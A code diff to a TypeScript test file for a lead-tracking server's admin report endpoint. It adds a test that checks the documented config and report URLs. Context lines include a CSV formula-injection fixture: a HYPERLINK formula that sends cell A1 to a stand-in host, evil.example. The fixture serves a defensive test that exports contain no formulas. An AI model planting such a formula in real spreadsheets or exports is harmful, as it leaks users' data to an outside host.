@@ -1,7 +1,9 @@
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
+import { parseConfig } from '../src/config.js';
 import { type RunningServer, startServer } from '../src/node.js';
-import { fullLead, tempDir } from './helpers.js';
+import { fullLead, PACKAGE_DIR, tempDir } from './helpers.js';
 
 const TOKEN = 'admin-token-0123456789abcdef';
 const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
@@ -123,6 +125,42 @@ describe('GET /v1/admin/report', () => {
     // No line has a cell that starts a formula.
     for (const line of lines) {
       for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
+    }
+  });
+});
+
+describe('the Funnel report docs page', () => {
+  const page = readFileSync(join(PACKAGE_DIR, '../../docs/content/funnel-report.md'), 'utf8');
+
+  it('has a config that parses and API calls that answer as described', async () => {
+    const json = page.match(/```json\n([\s\S]*?)```/)![1]!;
+    const config = parseConfig(JSON.parse(json), { env: { LEADKIT_ADMIN_TOKEN: TOKEN } });
+    expect(config.reporting).toEqual({ currency: 'EUR', timeZone: 'Europe/Berlin' });
+    await start();
+    const urls = [...page.matchAll(/"http:\/\/127\.0\.0\.1:8787(\/v1\/admin\/report[^"]*)"/g)].map(
+      (m) => m[1]!,
+    );
+    expect(urls).toHaveLength(3);
+    for (const path of urls) {
+      const res = await get(path);
+      expect(res.status, path).toBe(200);
+      if (path.includes('.csv')) expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+      else {
+        const body = (await res.json()) as Record<string, unknown>;
+        for (const key of [
+          'from',
+          'to',
+          'period',
+          'basis',
+          'timeZone',
+          'currency',
+          'currencies',
+          'firstTouch',
+          'lastTouch',
+        ]) {
+          expect(body, `${path} ${key}`).toHaveProperty(key);
+        }
+      }
     }
   });
 });
